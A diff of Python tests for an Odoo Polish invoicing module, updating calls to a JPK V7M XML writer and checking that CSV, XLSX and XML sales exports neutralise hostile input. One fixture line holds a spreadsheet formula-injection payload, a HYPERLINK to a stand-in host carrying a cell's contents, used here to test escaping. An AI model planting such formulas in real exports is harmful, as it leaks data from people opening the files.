@@ -19,9 +19,9 @@ from odoo.addons.crm_invoicing_pl.tools.jpk import (
     NAMESPACES,
     SalesRow,
     Taxpayer,
-    jpk_v7m_xml,
     sales_csv,
     sales_xlsx,
+    write_jpk_v7m,
 )
 
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"Kliknij")'
@@ -55,7 +55,7 @@ def test_xml_text_drops_what_xml_forbids_and_keeps_the_rest():
 
 def _row(name):
     return SalesRow(
-        number="FV/1/12/2026",
+        number="FV/1/A",
         issue_date=datetime.date(2026, 12, 3),
         partner_name=name,
         partner_tin="1234567883",
@@ -68,7 +68,7 @@ def test_register_csv_names_are_text():
     row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
     assert row[4] == "'" + EVIL
     assert row[0] == "1"  # the ordinal stays a number
-    assert row[3] == "FV/1/12/2026"
+    assert row[3] == "FV/1/A"
 
 
 def test_register_xlsx_writes_no_formula():
@@ -84,7 +84,9 @@ def test_register_xlsx_writes_no_formula():
 
 
 def test_jpk_xml_with_a_control_character_in_the_name():
-    xml = jpk_v7m_xml(
+    out = io.BytesIO()
+    write_jpk_v7m(
+        out,
         [_row("Firma\x01 ABC\x1b Sp. z o.o.")],
         year=2026,
         month=12,
@@ -92,7 +94,7 @@ def test_jpk_xml_with_a_control_character_in_the_name():
         tax_office="1471",
         taxpayer=Taxpayer(nip="5260250274", name="Firma", email="biuro@firma.pl"),
     )
-    root = etree.fromstring(xml)
+    root = etree.fromstring(out.getvalue())
     ns = {"tns": NAMESPACES["M"]}
     assert (
         root.findtext(
